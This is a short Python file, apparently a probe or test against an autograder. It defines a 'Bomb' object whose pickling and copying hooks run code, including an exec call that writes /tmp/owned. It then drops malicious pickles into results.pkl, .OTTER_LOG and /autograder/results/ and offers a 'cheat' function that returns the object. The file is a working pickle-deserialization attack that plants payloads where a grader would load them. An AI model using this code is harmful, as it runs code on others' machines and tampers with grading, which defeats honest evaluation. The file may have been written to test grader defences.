"""Returns objects whose pickling and copying runs code, and leaves such pickles in likely places."""

import copyreg
import os
import pickle

ran = []


def run_here():
    ran.append(os.getpid())
    return 8


class Bomb:
    def __reduce__(self):
        return (exec, ("import os; open('/tmp/owned', 'w').write('x')",))

    def __reduce_ex__(self, protocol):
        return run_here, ()

    def __getstate__(self):
        run_here()
        return {}

    def __deepcopy__(self, memo):
        return run_here()

    __copy__ = __deepcopy__


copyreg.pickle(Bomb, lambda bomb: (run_here, ()))
for name in ("results.pkl", ".OTTER_LOG", "/tmp/results.pkl", "/autograder/results/results.pkl"):
    try:
        with open(name, "wb") as file:
            pickle.dump(Bomb(), file)
    except OSError:
        pass


def cheat(*args, **kwargs):
    return Bomb()


copied = pickle.loads(pickle.dumps(Bomb()))
print("ATTACK RAN: a copy is", copied, "and pickling ran code", len(ran), "times")
